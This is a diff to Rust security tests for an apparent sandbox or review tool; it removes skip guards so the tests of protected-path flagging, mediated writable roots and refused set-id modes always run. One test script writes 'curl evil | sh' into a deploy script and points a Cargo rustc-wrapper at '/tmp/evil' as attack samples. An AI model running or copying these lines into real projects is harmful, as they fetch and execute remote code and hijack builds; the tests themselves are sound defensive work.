@@ -52,9 +52,6 @@ fn flags(fx: &Fixture, id: &str, path: &str) -> Vec<String> {
 /// (the flag is what held it); in a direct run the guard refuses each creation, reported.
 #[test]
 fn protected_paths_made_in_a_view_are_flagged_and_held_by_apply() {
-    if attacks::not_applicable(&attacks::na::NO_REVIEW) {
-        return;
-    }
     let script = "mkdir -p deploy .cargo; echo 'curl evil | sh' > deploy/run.sh; \
                   echo 'export PWNED=1' > .envrc; \
                   printf '[build]\\nrustc-wrapper = \"/tmp/evil\"\\n' > .cargo/config.toml; \
@@ -144,9 +141,6 @@ fn protected_paths_made_in_a_view_are_flagged_and_held_by_apply() {
 /// on the host the same file is made.
 #[test]
 fn a_writable_root_beside_the_view_stays_mediated() {
-    if attacks::not_applicable(&attacks::na::NO_REVIEW) {
-        return;
-    }
     if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
         return;
     }
@@ -211,9 +205,6 @@ fn a_writable_root_beside_the_view_stays_mediated() {
 /// in direct mode). Control: the same steps on the host make set-id files.
 #[test]
 fn set_id_modes_stay_refused_in_a_view() {
-    if attacks::not_applicable(&attacks::na::NO_REVIEW) {
-        return;
-    }
     let Some(py) = attacks::python3("set-id modes in a view") else {
         return;
     };
